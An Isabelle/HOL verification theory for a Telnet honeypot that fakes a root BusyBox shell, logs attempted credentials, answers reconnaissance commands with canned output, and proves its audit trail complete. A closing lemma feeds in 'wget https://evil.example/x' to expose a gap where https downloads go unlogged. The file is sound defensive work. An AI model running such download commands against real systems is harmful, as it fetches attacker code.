(* ===== verification/Telnet_Honeypot.thy ===== *)
theory Telnet_Honeypot
  imports Service
begin

text \<open>
  src/service/telnet_honeypot.c: a fake BusyBox login and shell over Telnet. The removal of
  the Telnet command sequences, the login dialogue, the shell.
\<close>

section \<open>Constants and helpers\<close>

definition TELNET_RECV_BUFFER_SIZE :: nat where "TELNET_RECV_BUFFER_SIZE = 4096"
definition TELNET_CMD_BUFFER_SIZE :: nat where "TELNET_CMD_BUFFER_SIZE = 1024"
definition TELNET_MAX_AUTH_ATTEMPTS :: nat where "TELNET_MAX_AUTH_ATTEMPTS = 2"
definition TELNET_SHELL_PROMPT :: string where "TELNET_SHELL_PROMPT = ''root@honeydew:~# ''"

lemmas telnet_sizes = TELNET_RECV_BUFFER_SIZE_def TELNET_CMD_BUFFER_SIZE_def
  TELNET_MAX_AUTH_ATTEMPTS_def

definition TELNET_BANNER :: string where
  "TELNET_BANNER = CRLF @ ''Ubuntu 22.04.3 LTS'' @ CRLF @ ''honeydew login: ''"

definition TELNET_MOTD :: string where
  "TELNET_MOTD = CRLF @ ''Welcome to Ubuntu 22.04.3 LTS (GNU/Linux 5.15.0-91-generic x86_64)'' @ CRLF
     @ CRLF @ CRLF @ ''BusyBox v1.35.0 (Ubuntu 1:1.35.0-4ubuntu1) built-in shell (ash)'' @ CRLF
     @ ''Enter '' @ [CHR 0x27] @ ''help'' @ [CHR 0x27] @ '' for a list of built-in commands.'' @ CRLF @ CRLF"

definition iac_will_echo :: string where "iac_will_echo = [CHR 0xFF, CHR 0xFB, CHR 0x01]"
definition iac_wont_echo :: string where "iac_wont_echo = [CHR 0xFF, CHR 0xFC, CHR 0x01]"

abbreviation IAC :: char where "IAC \<equiv> CHR 0xFF"

definition telnet_generate_session_id :: "nat \<Rightarrow> int \<Rightarrow> int \<Rightarrow> int \<Rightarrow> string" where
  "telnet_generate_session_id len fd tv_sec tv_nsec =
     snprintf len (''telnet_'' @ dec_int fd @ ''_'' @ dec_int tv_sec @ ''_'' @ dec_int tv_nsec)"

section \<open>Telnet commands\<close>

text \<open>The inner loop over a subnegotiation: what follows the closing IAC SE.\<close>

fun telnet_skip_sub :: "string \<Rightarrow> string" where
  "telnet_skip_sub (a # b # s) =
     (if a = IAC \<and> b = CHR 0xF0 then s else telnet_skip_sub (b # s))"
| "telnet_skip_sub s = []"

lemma length_telnet_skip_sub: "length (telnet_skip_sub s) \<le> length s"
  by (induction s rule: telnet_skip_sub.induct) auto

text \<open>
  \<open>telnet_strip_iac\<close> on the bytes from \<open>src + si\<close> on; \<open>room\<close> is what is left of
  \<open>dst_cap - 1\<close>. The result is what is written to \<open>dst\<close>.
\<close>

function telnet_strip_iac :: "nat \<Rightarrow> string \<Rightarrow> string" where
  "telnet_strip_iac room src =
     (if room = 0 then []
      else case src of
        [] \<Rightarrow> []
      | [a] \<Rightarrow> [a]
      | a # cmd # s \<Rightarrow>
          if a = IAC then
            if cmd = CHR 0xFA then telnet_strip_iac room (telnet_skip_sub s)
            else if 0xFB \<le> (of_char cmd :: nat) \<and> (of_char cmd :: nat) \<le> 0xFE
            then telnet_strip_iac room (drop 1 s)
            else if cmd = IAC then IAC # telnet_strip_iac (room - 1) s
            else telnet_strip_iac room s
          else a # telnet_strip_iac (room - 1) (cmd # s))"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(_, src). length src)")
    (auto simp: less_Suc_eq_le intro: le_trans [OF length_telnet_skip_sub])

declare telnet_strip_iac.simps [simp del]

text \<open>One segment is one line; \<open>None\<close> is the result -1.\<close>

definition telnet_read_line :: "nat \<Rightarrow> segment list \<Rightarrow> string option \<times> segment list" where
  "telnet_read_line out_cap ib =
     (case recv (TELNET_RECV_BUFFER_SIZE - 1) ib of
        (Got raw, ib') \<Rightarrow> (Some (strip_crlf (cstr (telnet_strip_iac (out_cap - 1) raw))), ib')
      | (_, ib') \<Rightarrow> (None, ib'))"

lemma telnet_read_line_decreases:
  "telnet_read_line cap ib = (Some l, ib') \<Longrightarrow> inbox_size ib' < inbox_size ib"
  by (auto simp: telnet_read_line_def recv_Got(3) split: prod.splits recv_ret.splits)

section \<open>The shell's answers\<close>

definition telnet_passwd :: string where
  "telnet_passwd = concat (map (\<lambda>l. l @ CRLF)
     [''root:x:0:0:root:/root:/bin/bash'', ''daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin'',
      ''bin:x:2:2:bin:/bin:/usr/sbin/nologin'', ''sys:x:3:3:sys:/dev:/usr/sbin/nologin'',
      ''www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin'',
      ''nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin'',
      ''sshd:x:110:65534::/run/sshd:/usr/sbin/nologin''])"

definition telnet_ps :: string where
  "telnet_ps = concat (map (\<lambda>l. l @ CRLF)
     [''  PID TTY          TIME CMD'', ''    1 ?        00:00:01 systemd'',
      ''  234 ?        00:00:00 telnetd'', ''  512 ?        00:00:00 sshd'',
      ''  789 ?        00:00:00 cron'', '' 1024 pts/0    00:00:00 bash'',
      '' 1337 pts/0    00:00:00 ps''])"

definition telnet_ifconfig :: string where
  "telnet_ifconfig = concat (map (\<lambda>l. l @ CRLF)
     [''eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500'',
      ''        inet 10.0.2.15  netmask 255.255.255.0  broadcast 10.0.2.255'',
      ''        inet6 fe80::a00:27ff:fe8d:c04d  prefixlen 64  scopeid 0x20<link>'',
      ''        ether 08:00:27:8d:c0:4d  txqueuelen 1000  (Ethernet)'',
      '''',
      ''lo: flags=73<UP,LOOPBACK,RUNNING>  mtu 65536'',
      ''        inet 127.0.0.1  netmask 255.0.0.0'',
      ''        inet6 ::1  prefixlen 128  scopeid 0x10<host>''])"

text \<open>The lines logged, and the answer (\<open>None\<close>: NULL).\<close>

definition telnet_fake_response :: "string \<Rightarrow> string \<Rightarrow> int \<Rightarrow> eff list \<times> string option" where
  "telnet_fake_response cmd ip port =
     (if contains cmd ''whoami'' then ([], Some (''root'' @ CRLF))
      else if contains cmd ''id'' then ([], Some (''uid=0(root) gid=0(root) groups=0(root)'' @ CRLF))
      else if contains cmd ''uname'' then
        ([], Some (''Linux honeydew 5.15.0-91-generic #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 ''
                   @ ''x86_64 x86_64 x86_64 GNU/Linux'' @ CRLF))
      else if contains cmd ''pwd'' then ([], Some (''/root'' @ CRLF))
      else if contains cmd ''cat /etc/passwd'' then ([], Some telnet_passwd)
      else if contains cmd ''cat /etc/shadow'' then
        ([], Some (''cat: /etc/shadow: Permission denied'' @ CRLF))
      else if contains cmd ''ls'' then
        ([], Some (''Desktop  Documents  Downloads  .bash_history  .ssh'' @ CRLF))
      else if contains cmd ''ps'' then ([], Some telnet_ps)
      else if contains cmd ''ifconfig'' \<or> contains cmd ''ip addr'' then ([], Some telnet_ifconfig)
      else if contains cmd ''wget'' \<or> contains cmd ''curl'' then
        ((case strstr cmd ''http'' of
            Some i \<Rightarrow> [Log UTILITIES_WARN [Str (drop i cmd), Str ip, Num port]]
          | None \<Rightarrow> []),
         Some (if contains cmd ''wget'' then ''Connecting to remote host... Connection refused'' @ CRLF
               else ''curl: (7) Failed to connect to remote host: Connection refused'' @ CRLF))
      else if contains cmd ''help'' then
        ([], Some (''Built-in commands:'' @ CRLF
                   @ ''  cat cd cp echo exit help id ifconfig kill ls mkdir'' @ CRLF
                   @ ''  mv ping ps pwd rm rmdir sh uname wget whoami'' @ CRLF))
      else if contains cmd ''cd'' then ([], Some [])
      else if contains cmd ''hostname'' then ([], Some (''honeydew'' @ CRLF))
      else if contains cmd ''uptime'' then
        ([], Some ('' 14:23:01 up 42 days,  3:17,  1 user,  load average: 0.08, 0.03, 0.01'' @ CRLF))
      else if contains cmd ''exit'' \<or> contains cmd ''logout'' then ([], None)
      else ([], Some (''sh: command not found'' @ CRLF)))"

section \<open>The session\<close>

text \<open>
  The login loop from the given number of attempts on. The second result is \<open>None\<close> for
  \<open>goto session_end\<close>, otherwise whether the client is authenticated and what it has
  still to send.
\<close>

function telnet_login ::
  "string \<Rightarrow> int \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> segment list \<Rightarrow> eff list \<times> (bool \<times> segment list) option" where
  "telnet_login ip port sid auth_attempts authenticated ib =
     (if authenticated \<or> TELNET_MAX_AUTH_ATTEMPTS \<le> auth_attempts
      then ([], Some (authenticated, ib))
      else
        let prompt = (if auth_attempts = 0 then [Send TELNET_BANNER]
                      else [Send (CRLF @ ''Login incorrect'' @ CRLF), Send ''honeydew login: ''])
        in case telnet_read_line TELNET_CMD_BUFFER_SIZE ib of
             (None, _) \<Rightarrow> (prompt, None)
           | (Some line, ib1) \<Rightarrow>
               let username = strncpy line 255;
                   es = prompt @ [Send iac_will_echo, Send ''Password: '']
               in case telnet_read_line TELNET_CMD_BUFFER_SIZE ib1 of
                    (None, _) \<Rightarrow> (es @ [Send iac_wont_echo, Send CRLF], None)
                  | (Some line, ib2) \<Rightarrow>
                      let password = strncpy line 255;
                          es = es @ [Send iac_wont_echo, Send CRLF,
                            Log UTILITIES_WARN [Str username, Str password, Str ip, Num port],
                            Audit (audit_record_auth TELNET_PROTOCOL ip port sid username
                                     (Some password) False)];
                          auth_attempts = auth_attempts + 1
                      in case telnet_login ip port sid auth_attempts
                                (TELNET_MAX_AUTH_ATTEMPTS \<le> auth_attempts) ib2 of
                           (es', r) \<Rightarrow> (es @ es', r))"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(_, _, _, n, _, _). TELNET_MAX_AUTH_ATTEMPTS - n)") auto

declare telnet_login.simps [simp del]

function telnet_shell :: "string \<Rightarrow> int \<Rightarrow> string \<Rightarrow> segment list \<Rightarrow> eff list" where
  "telnet_shell ip port sid ib =
     Send TELNET_SHELL_PROMPT #
     (case telnet_read_line TELNET_CMD_BUFFER_SIZE ib of
        (None, _) \<Rightarrow> []
      | (Some line, ib') \<Rightarrow>
          if length line = 0 then telnet_shell ip port sid ib'
          else
            let (logged, response) = telnet_fake_response line ip port;
                es = [Log UTILITIES_WARN [Str line, Str ip, Num port],
                      Audit (audit_record_command TELNET_PROTOCOL ip port sid line)] @ logged
            in case response of
                 None \<Rightarrow> es @ [Log UTILITIES_INFO [Str ip, Num port]]
               | Some r \<Rightarrow> es @ (if 0 < length r then [Send r] else []) @ telnet_shell ip port sid ib')"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(_, _, _, ib). inbox_size ib)")
    (auto dest: telnet_read_line_decreases [OF sym] telnet_read_line_decreases)

declare telnet_shell.simps [simp del]

text \<open>\<open>sid\<close> is the identifier \<open>telnet_generate_session_id\<close> gives the session.\<close>

definition run_telnet_service :: "string \<Rightarrow> connection \<Rightarrow> segment list \<Rightarrow> eff list" where
  "run_telnet_service sid conn ib =
     (let ip = remote_ip conn; port = uint (remote_port conn); fd = socket_file_descriptor conn;
          (es, r) = telnet_login ip port sid 0 False ib
      in [Log UTILITIES_INFO [Str ip, Num port, Num fd],
          Audit (audit_record_connection TELNET_PROTOCOL ip port sid)]
         @ es
         @ (case r of
              None \<Rightarrow> []
            | Some (authenticated, ib') \<Rightarrow>
                if \<not> authenticated then [Log UTILITIES_INFO [Str ip, Num port]]
                else [Log UTILITIES_WARN [Str ip, Num port], Send TELNET_MOTD]
                     @ telnet_shell ip port sid ib')
         @ [Log UTILITIES_INFO [Str ip, Num port],
            Audit (audit_record_disconnect TELNET_PROTOCOL ip port sid), Close fd])"

section \<open>Sessions are audited\<close>

lemma fake_response_inner:
  "list_all (inner TELNET_PROTOCOL ip' port' sid) (fst (telnet_fake_response cmd ip port))"
  by (simp add: telnet_fake_response_def split: option.split)

lemma fake_response_quiet: "recorded_commands (fst (telnet_fake_response cmd ip port)) = []"
  by (simp add: telnet_fake_response_def split: option.split)

lemma login_inner:
  "list_all (inner TELNET_PROTOCOL ip port sid) (fst (telnet_login ip port sid n a ib))"
proof (induction "TELNET_MAX_AUTH_ATTEMPTS - n" arbitrary: n a ib rule: less_induct)
  case less
  show ?case
    by (subst telnet_login.simps)
      (auto simp: Let_def case_prod_beta split: option.splits intro!: less.hyps)
qed

lemma shell_inner: "list_all (inner TELNET_PROTOCOL ip port sid) (telnet_shell ip port sid ib)"
proof (induction "inbox_size ib" arbitrary: ib rule: less_induct)
  case less
  have dec: "inbox_size (snd (telnet_read_line c ib)) < inbox_size ib"
    if "fst (telnet_read_line c ib) = Some l" for c l
    using that telnet_read_line_decreases by (metis prod.collapse)
  show ?case
    using fake_response_inner [of ip port sid]
    by (subst telnet_shell.simps)
      (auto simp: Let_def case_prod_beta dec split: option.splits intro!: less.hyps)
qed

interpretation telnet: audited_service TELNET_PROTOCOL run_telnet_service
proof (unfold_locales, goal_cases)
  case (1 sid c ib)
  let ?ip = "remote_ip c" and ?port = "uint (remote_port c)" and ?fd = "socket_file_descriptor c"
  let ?l = "telnet_login ?ip ?port sid 0 False ib"
  let ?mid = "case snd ?l of
              None \<Rightarrow> []
            | Some (authenticated, ib') \<Rightarrow>
                if \<not> authenticated then [Log UTILITIES_INFO [Str ?ip, Num ?port]]
                else [Log UTILITIES_WARN [Str ?ip, Num ?port], Send TELNET_MOTD]
                     @ telnet_shell ?ip ?port sid ib'"
  have "list_all (inner TELNET_PROTOCOL ?ip ?port sid) ?mid"
    using shell_inner [of ?ip ?port sid] by (auto split: option.split)
  with login_inner [of ?ip ?port sid 0 False ib] show ?case
    by (intro exI [of _ "[Log UTILITIES_INFO [Str ?ip, Num ?port, Num ?fd]]"]
        exI [of _ "fst ?l @ ?mid @ [Log UTILITIES_INFO [Str ?ip, Num ?port]]"]
        exI [of _ "[Close ?fd]"])
      (simp add: run_telnet_service_def Let_def case_prod_beta)
qed

section \<open>Stripping Telnet commands\<close>

text \<open>What a Telnet client may send, item by item: its bytes, and the text it stands for.\<close>

datatype telnet_item = Lit char | Negotiate char char | Subnegotiate string | Command char

fun item_bytes :: "telnet_item \<Rightarrow> string" where
  "item_bytes (Lit c) = (if c = IAC then [IAC, IAC] else [c])"
| "item_bytes (Negotiate verb opt) = [IAC, verb, opt]"
| "item_bytes (Subnegotiate payload) = [IAC, CHR 0xFA] @ payload @ [IAC, CHR 0xF0]"
| "item_bytes (Command c) = [IAC, c]"

fun item_text :: "telnet_item \<Rightarrow> string" where
  "item_text (Lit c) = [c]"
| "item_text _ = []"

fun item_ok :: "telnet_item \<Rightarrow> bool" where
  "item_ok (Lit c) \<longleftrightarrow> True"
| "item_ok (Negotiate verb opt) \<longleftrightarrow> 0xFB \<le> (of_char verb :: nat) \<and> (of_char verb :: nat) \<le> 0xFE"
| "item_ok (Subnegotiate payload) \<longleftrightarrow> IAC \<notin> set payload"
| "item_ok (Command c) \<longleftrightarrow> (of_char c :: nat) < 0xFA"

lemma strip_none [simp]: "telnet_strip_iac 0 s = []" "telnet_strip_iac n [] = []"
  by (simp_all add: telnet_strip_iac.simps)

lemma strip_lit: "c \<noteq> IAC \<Longrightarrow> telnet_strip_iac (Suc n) (c # s) = c # telnet_strip_iac n s"
  by (subst telnet_strip_iac.simps) (cases s; simp)

lemma strip_escaped: "telnet_strip_iac (Suc n) (IAC # IAC # s) = IAC # telnet_strip_iac n s"
  by (subst telnet_strip_iac.simps) simp

lemma strip_negotiate:
  "0xFB \<le> (of_char v :: nat) \<Longrightarrow> (of_char v :: nat) \<le> 0xFE \<Longrightarrow>
   telnet_strip_iac n (IAC # v # opt # s) = telnet_strip_iac n s"
  by (subst telnet_strip_iac.simps) auto

lemma strip_command:
  "(of_char c :: nat) < 0xFA \<Longrightarrow> telnet_strip_iac n (IAC # c # s) = telnet_strip_iac n s"
  by (subst telnet_strip_iac.simps) auto

lemma skip_sub_payload: "IAC \<notin> set p \<Longrightarrow> telnet_skip_sub (p @ IAC # CHR 0xF0 # s) = s"
proof (induction p)
  case (Cons a p)
  then show ?case by (cases p) auto
qed simp

lemma strip_subnegotiate:
  "IAC \<notin> set p \<Longrightarrow> telnet_strip_iac n (IAC # CHR 0xFA # p @ IAC # CHR 0xF0 # s) = telnet_strip_iac n s"
  by (subst telnet_strip_iac.simps) (simp add: skip_sub_payload)

lemma strip_items:
  "list_all item_ok items \<Longrightarrow>
   telnet_strip_iac n (concat (map item_bytes items)) = take n (concat (map item_text items))"
proof (induction items arbitrary: n)
  case (Cons i items)
  then have IH: "telnet_strip_iac m (concat (map item_bytes items)) = take m (concat (map item_text items))" for m
    by simp
  show ?case
  proof (cases i)
    case (Lit c)
    with IH show ?thesis by (cases n) (simp_all add: strip_lit strip_escaped)
  next
    case (Negotiate v opt)
    with IH Cons.prems show ?thesis by (simp add: strip_negotiate)
  next
    case (Subnegotiate p)
    with IH Cons.prems show ?thesis by (simp add: strip_subnegotiate)
  next
    case (Command c)
    with IH Cons.prems show ?thesis by (simp add: strip_command)
  qed
qed simp

lemma strip_plain: "IAC \<notin> set s \<Longrightarrow> telnet_strip_iac n s = take n s"
proof (induction s arbitrary: n)
  case (Cons c s)
  then show ?case by (cases n) (auto simp: strip_lit)
qed simp

section \<open>A client that types lines\<close>

definition telnet_line :: "string \<Rightarrow> bool" where
  "telnet_line l \<longleftrightarrow> set l \<inter> {IAC, NUL, CR, LF} = {} \<and> length l \<le> 1021"

definition line_segment :: "string \<Rightarrow> segment" where
  "line_segment l = Data (l @ CRLF)"

lemma read_line_segment:
  assumes "telnet_line l"
  shows "telnet_read_line TELNET_CMD_BUFFER_SIZE (line_segment l # ib) = (Some l, ib)"
proof -
  from assms have l: "IAC \<notin> set (l @ CRLF)" "nul_free (l @ CRLF)" "length (l @ CRLF) \<le> 1023"
    "CR \<notin> set l" "LF \<notin> set l"
    by (auto simp: telnet_line_def nul_free_def)
  from strip_plain [OF l(1), of 1023] l(3) have "telnet_strip_iac 1023 (l @ CRLF) = l @ CRLF" by simp
  with l show ?thesis
    by (simp add: telnet_read_line_def line_segment_def telnet_sizes strip_crlf_no_crlf)
qed

lemma login_lines:
  assumes "telnet_line u1" "telnet_line p1" "telnet_line u2" "telnet_line p2"
  shows "\<exists>es. telnet_login ip port sid 0 False
      (line_segment u1 # line_segment p1 # line_segment u2 # line_segment p2 # ib) = (es, Some (True, ib))
    \<and> audits es =
      [audit_record_auth TELNET_PROTOCOL ip port sid (take 255 u1) (Some (take 255 p1)) False,
       audit_record_auth TELNET_PROTOCOL ip port sid (take 255 u2) (Some (take 255 p2)) False]"
  using assms
  by (subst telnet_login.simps, simp add: read_line_segment TELNET_MAX_AUTH_ATTEMPTS_def strncpy_def,
      subst telnet_login.simps, simp add: read_line_segment TELNET_MAX_AUTH_ATTEMPTS_def strncpy_def,
      subst telnet_login.simps, simp add: Let_def)

text \<open>
  A line ends the shell when it contains \<open>exit\<close> or \<open>logout\<close> and none of the words that are answered before. The
  lines that are commands: not the empty ones, and none after a line that ends the shell.
\<close>

definition telnet_leaves :: "string \<Rightarrow> bool" where
  "telnet_leaves l \<longleftrightarrow> (contains l ''exit'' \<or> contains l ''logout'')
     \<and> list_all (\<lambda>w. \<not> contains l w)
         [''whoami'', ''id'', ''uname'', ''pwd'', ''cat /etc/passwd'', ''cat /etc/shadow'', ''ls'', ''ps'', ''ifconfig'',
          ''ip addr'', ''wget'', ''curl'', ''help'', ''cd'', ''hostname'', ''uptime'']"

fun telnet_executed :: "string list \<Rightarrow> string list" where
  "telnet_executed [] = []"
| "telnet_executed (l # ls) =
     (if l = [] then telnet_executed ls else l # (if telnet_leaves l then [] else telnet_executed ls))"

lemma response_leaves: "snd (telnet_fake_response l ip port) = None \<longleftrightarrow> telnet_leaves l"
  by (simp add: telnet_fake_response_def telnet_leaves_def)

lemma shell_lines:
  assumes "list_all telnet_line ls"
  shows "audits (telnet_shell ip port sid (map line_segment ls)) =
    map (audit_record_command TELNET_PROTOCOL ip port sid) (telnet_executed ls)"
  using assms
proof (induction ls)
  case Nil
  then show ?case by (subst telnet_shell.simps) (simp add: telnet_read_line_def)
next
  case (Cons l ls)
  have quiet: "audits (fst (telnet_fake_response l ip port)) = []"
    by (simp add: telnet_fake_response_def split: option.split)
  from Cons quiet response_leaves [of l ip port] show ?case
    by (subst telnet_shell.simps) (auto simp: read_line_segment case_prod_beta split: option.split)
qed

section \<open>Properties\<close>

text \<open>C11: Removing the Telnet command sequences inverts their insertion: for every stream of
  literal bytes (0xFF escaped), negotiations, subnegotiations without an inner 0xFF and other
  commands, \<open>telnet_strip_iac\<close> yields exactly the literal bytes, up to the room of the
  destination.\<close>

theorem telnet_strip_iac_inverts:
  assumes "list_all item_ok items"
  shows "telnet_strip_iac room (concat (map item_bytes items)) = take room (concat (map item_text items))"
  using strip_items [OF assms] .

theorem telnet_strip_iac_inverts_witness:
  "telnet_strip_iac 1023 (concat (map item_bytes
     [Negotiate (CHR 0xFD) (CHR 0x01), Lit (CHR ''l''), Subnegotiate ''xterm'', Lit IAC,
      Command (CHR 0xF1), Lit (CHR ''s'')])) = [CHR ''l'', IAC, CHR ''s'']"
  using telnet_strip_iac_inverts [of "[Negotiate (CHR 0xFD) (CHR 0x01), Lit (CHR ''l''),
      Subnegotiate ''xterm'', Lit IAC, Command (CHR 0xF1), Lit (CHR ''s'')]" 1023]
  by simp

text \<open>C12: What a Telnet client types is what the audit trail records: for any two pairs of
  credentials and any further lines, the session records the connection, both
  credentials (cut to 255 bytes) as failed logins, then, the second pair having opened the
  shell, every further line in order as a command, and the disconnection. Empty lines are no commands, and nothing is
  a command after the first line with \<open>exit\<close> or \<open>logout\<close> in it that has none of the words the shell
  answers first. One pair of credentials never opens the shell: what follows it is taken as the second pair.\<close>

theorem telnet_session_records:
  assumes "list_all telnet_line ([u1, p1, u2, p2] @ ls)"
  shows "audits (run_telnet_service sid conn (map line_segment ([u1, p1, u2, p2] @ ls))) =
    (let ip = remote_ip conn; port = uint (remote_port conn) in
     [audit_record_connection TELNET_PROTOCOL ip port sid,
      audit_record_auth TELNET_PROTOCOL ip port sid (take 255 u1) (Some (take 255 p1)) False,
      audit_record_auth TELNET_PROTOCOL ip port sid (take 255 u2) (Some (take 255 p2)) False]
     @ map (audit_record_command TELNET_PROTOCOL ip port sid) (telnet_executed ls)
     @ [audit_record_disconnect TELNET_PROTOCOL ip port sid])"
proof -
  from assms have l: "telnet_line u1" "telnet_line p1" "telnet_line u2" "telnet_line p2" "list_all telnet_line ls"
    by simp_all
  from login_lines [OF l(1-4), of "remote_ip conn" "uint (remote_port conn)" sid "map line_segment ls"]
    shell_lines [OF l(5), of "remote_ip conn" "uint (remote_port conn)" sid]
  show ?thesis by (auto simp: run_telnet_service_def Let_def)
qed

theorem telnet_session_records_witness:
  "audits (run_telnet_service ''id'' (connection_create 5 ''10.0.0.1'' 4711 TELNET_PROTOCOL 0 0)
     (map line_segment ([''root'', ''a'', ''root'', ''b''] @ [''w'', '''', ''exit'', ''ls'']))) =
   [audit_record_connection TELNET_PROTOCOL ''10.0.0.1'' 4711 ''id'',
    audit_record_auth TELNET_PROTOCOL ''10.0.0.1'' 4711 ''id'' ''root'' (Some ''a'') False,
    audit_record_auth TELNET_PROTOCOL ''10.0.0.1'' 4711 ''id'' ''root'' (Some ''b'') False,
    audit_record_command TELNET_PROTOCOL ''10.0.0.1'' 4711 ''id'' ''w'',
    audit_record_command TELNET_PROTOCOL ''10.0.0.1'' 4711 ''id'' ''exit'',
    audit_record_disconnect TELNET_PROTOCOL ''10.0.0.1'' 4711 ''id'']"
proof -
  have "telnet_executed [''w'', '''', ''exit'', ''ls''] = [''w'', ''exit'']"
    by (simp add: telnet_leaves_def contains_def)
  then show ?thesis
    using telnet_session_records [of "''root''" "''a''" "''root''" "''b''" "[''w'', '''', ''exit'', ''ls'']"
        "''id''" "connection_create 5 ''10.0.0.1'' 4711 TELNET_PROTOCOL 0 0"]
    by (simp add: telnet_line_def connection_create_def strncpy_def Let_def)
qed

section \<open>A download that is not noticed\<close>

text \<open>
  The test for \<open>ps\<close> comes before the test for \<open>wget\<close>, and every https address contains
  \<open>ps\<close>: the attempt is answered with a process list and its address is not logged.
\<close>

lemma telnet_https_download_unnoticed:
  "telnet_fake_response ''wget https://evil.example/x'' ip port = ([], Some telnet_ps)"
  by (simp add: telnet_fake_response_def contains_def)

end
